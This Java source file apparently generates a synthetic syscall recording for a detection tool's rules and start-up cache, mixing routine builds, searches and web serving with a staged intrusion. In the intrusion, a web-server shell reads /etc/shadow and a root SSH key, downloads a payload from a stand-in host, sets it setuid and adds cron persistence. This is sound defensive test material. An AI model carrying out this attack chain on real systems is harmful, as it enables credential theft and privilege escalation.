package io.vedette.syscalls;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;

/**
 * Makes {@code content/recordings/kernel-first-steps.scap.gz}: a made-up day on a made-up machine,
 * compressed into a minute. The same from run to run.
 *
 * <p>A build, searches through folders, shells and their small programs, a web server with its
 * clients, and in between somebody who does what he should not. It shows what our rules say, and
 * the start-up cache of {@code ./vedette} is trained on it.
 */
final class KernelFirstSteps {
    private static final int ROUNDS = 20;
    private static final int CURRENT_DIRECTORY = -100;
    private static final int NO_SUCH_FILE = -2;
    private static final int DEVICE = 2049;
    private static final int FROM_DIRECTORY = 1 << 13;
    private static final int READ_ONLY = 1;
    private static final int WRITE_ONLY = 2;
    private static final int CREATE = 4;
    private static final int FIRST_PID = 2_000;
    private static final int SERVER = 900;
    private static final int SHELL = 1_000;
    private static final long MILLISECOND = 1_000_000L;

    private static final int HERE = 0xc0000205; // 192.0.2.5, for documentation (RFC 5737)
    private static final int CLIENT = 0xc6336407; // 198.51.100.7
    private static final int ELSEWHERE = 0xcb007142; // 203.0.113.66

    private static final String[] LIBRARIES = {
        "/etc/ld.so.cache",
        "/lib/x86_64-linux-gnu/libc.so.6",
        "/lib/x86_64-linux-gnu/libm.so.6",
        "/usr/lib/locale/locale-archive"
    };

    private static final String[] TOOLS = {"cat", "sed", "grep", "ls", "date", "id", "wc", "env"};

    private final Recorded in = new Recorded(MILLISECOND);
    private int nextPid = FIRST_PID;
    private int next = 1;

    private KernelFirstSteps() {
        in.machine()
                .interfaces
                .add(
                        new Interfaces.Interface(
                                new byte[] {(byte) 192, 0, 2, 5},
                                new byte[] {-1, -1, -1, 0},
                                new byte[] {(byte) 192, 0, 2, -1},
                                0,
                                Recorded.bytes("eth0")));
        user(0, "root", "/root");
        user(33, "www-data", "/var/www");
        user(1000, "alice", "/home/alice");
        in.thread(SERVER, 1, "nginx").uid = 33;
        ProcessThread shell = in.thread(SHELL, 1, "bash");
        shell.uid = 1000;
        shell.tty = 34_817;
        shell.directory = Recorded.bytes("/home/alice/shop/");
    }

    private void user(int uid, String name, String home) {
        in.machine()
                .accounts
                .add(
                        Slice.NOTHING,
                        new Accounts.User(
                                uid,
                                uid,
                                Recorded.bytes(name),
                                Recorded.bytes(home),
                                Recorded.bytes("/bin/sh")));
    }

    /** The recording, unpacked. */
    static byte[] make() {
        var made = new KernelFirstSteps();
        for (int round = 0; round < ROUNDS; round++) {
            made.compiles(round);
            made.searches(round);
            made.serves(round);
            for (String tool : TOOLS) {
                made.uses(tool, "notes-" + round + ".txt");
            }
            if (round % 6 == 4) {
                made.intrudes();
            }
        }
        return made.in.written();
    }

    /** A number that looks like chance. */
    private int chance(int below) {
        next = next * 1_103_515_245 + 12_345;
        return (next >>> 16) % below;
    }

    private long starts(long parent, String comm) {
        long pid = nextPid++;
        Scenarios.starts(in, parent, pid, comm, 0);
        return pid;
    }

    private long runs(long parent, String from, String path, String... arguments) {
        long pid = starts(parent, from);
        in.event(EventCode.FCNTL, pid, 10, 2, 0, 0);
        in.event(EventCode.DUP3, pid, 1, 10, 1, 0);
        in.event(EventCode.CLOSE, pid, 0, 10);
        Scenarios.runs(in, pid, parent, path, arguments);
        for (String library : LIBRARIES) {
            reads(pid, library);
        }
        return pid;
    }

    private void reads(long pid, String path) {
        opens(pid, path, READ_ONLY, 3);
        in.event(EventCode.READ, pid, 4, new byte[] {'t', 'e', 'x', 't'}, 3, 4096);
        in.event(EventCode.CLOSE, pid, 0, 3);
    }

    private void writes(long pid, String path) {
        opens(pid, path, WRITE_ONLY | CREATE, 3);
        in.event(EventCode.WRITE, pid, 4, new byte[] {'t', 'e', 'x', 't'}, 3, 4);
        in.event(EventCode.CLOSE, pid, 0, 3);
    }

    private void opens(long pid, String path, int flags, int result) {
        in.event(
                EventCode.OPENAT,
                pid,
                result,
                CURRENT_DIRECTORY,
                path,
                flags,
                0,
                DEVICE,
                1000 + chance(60_000));
    }

    /** Headers are looked for in vain first, as compilers do. */
    private void compiles(int round) {
        long make = runs(SHELL, "bash", "/usr/bin/make", "-j4", "all");
        for (int file = 0; file < 4; file++) {
            String source = "src/part" + (round % 5) + "/file" + file;
            long compiler =
                    runs(make, "make", "/usr/bin/cc1", "-O2", source + ".c", "-o", source + ".o");
            reads(compiler, source + ".c");
            for (int header = 0; header < 12; header++) {
                String name = "shop/header" + chance(90) + ".h";
                opens(compiler, "include/" + name, READ_ONLY, NO_SUCH_FILE);
                reads(compiler, "../shop/include/" + name);
            }
            writes(compiler, source + ".o");
            in.event(EventCode.RENAME, compiler, 0, source + ".o", source + ".obj");
            Scenarios.ends(in, compiler);
        }
        Scenarios.ends(in, make);
    }

    private void searches(int round) {
        long find = runs(SHELL, "bash", "/usr/bin/find", "/srv/data", "-name", "*.tmp");
        for (int folder = 0; folder < 25; folder++) {
            String path = "/srv/data/" + (round % 7) + "/folder" + folder;
            opens(find, path, READ_ONLY | FROM_DIRECTORY, 4);
            in.event(EventCode.FCNTL, find, 0, 4, 2, 1);
            in.event(EventCode.NEWFSTATAT, find, 0, 4, "x" + folder + ".tmp", 0);
            in.event(EventCode.CLOSE, find, 0, 4);
            if (folder % 5 == 0) {
                in.event(EventCode.UNLINKAT, find, 0, CURRENT_DIRECTORY, path + "/x" + round, 0);
            }
        }
        Scenarios.ends(in, find);
    }

    private void serves(int round) {
        for (int request = 0; request < 8; request++) {
            in.event(
                    EventCode.ACCEPT4,
                    SERVER,
                    7,
                    Scenarios.tuple(CLIENT, 40_000 + request, HERE, 443),
                    0,
                    0,
                    5,
                    0);
            in.event(EventCode.RECVFROM, SERVER, 3, Recorded.bytes("GET"), new byte[0], 7, 3);
            opens(SERVER, "/var/www/page" + (round + request) % 20 + ".html", READ_ONLY, 8);
            in.event(EventCode.CLOSE, SERVER, 0, 8);
            in.event(EventCode.SENDTO, SERVER, 2, Recorded.bytes("OK"), 7, 2, new byte[0]);
            in.event(EventCode.CLOSE, SERVER, 0, 7);
        }
    }

    private void uses(String tool, String file) {
        long pid = runs(SHELL, "bash", "/usr/bin/" + tool, "-n", file);
        in.event(EventCode.CHDIR, pid, 0, "/home/alice/notes");
        reads(pid, file);
        Scenarios.ends(in, pid);
    }

    /** The shell of a web server, what it reads, and where it goes with it. */
    private void intrudes() {
        long shell = runs(SERVER, "nginx", "/bin/sh", "-i");
        long cat = runs(shell, "sh", "/usr/bin/cat", "/etc/shadow");
        reads(cat, "/etc/shadow");
        reads(cat, "/root/.ssh/id_ed25519");
        Scenarios.ends(in, cat);
        long curl = runs(shell, "sh", "/usr/bin/curl", "-o", "/tmp/.x", "http://203.0.113.66/x");
        in.event(EventCode.SOCKET, curl, 3, 2, 1, 6);
        in.event(
                EventCode.CONNECT,
                curl,
                0,
                Scenarios.tuple(HERE, 41_000, ELSEWHERE, 80),
                3,
                Scenarios.address(ELSEWHERE, 80));
        in.event(EventCode.CLOSE, curl, 0, 3);
        writes(curl, "/tmp/.x");
        Scenarios.ends(in, curl);
        long chmod = runs(shell, "sh", "/usr/bin/chmod", "u+s", "/tmp/.x");
        in.event(EventCode.FCHMODAT, chmod, 0, CURRENT_DIRECTORY, "/tmp/.x", 04755);
        Scenarios.ends(in, chmod);
        long left = runs(shell, "sh", "/tmp/.x", "--daemon");
        writes(left, "/etc/cron.d/x");
        in.event(EventCode.SYMLINKAT, left, 0, "/etc/passwd", CURRENT_DIRECTORY, "/tmp/p");
        in.event(EventCode.SETUID, left, 0, 0);
        Scenarios.ends(in, left);
        Scenarios.ends(in, shell);
    }

    /**
     * Writes the recording.
     *
     * @param arguments the file
     */
    public static void main(String[] arguments) throws IOException {
        var packed = new ByteArrayOutputStream();
        try (var out =
                new GZIPOutputStream(packed) {
                    {
                        def.setLevel(Deflater.BEST_COMPRESSION);
                    }
                }) {
            out.write(make());
        }
        Files.write(Path.of(arguments[0]), packed.toByteArray());
    }
}
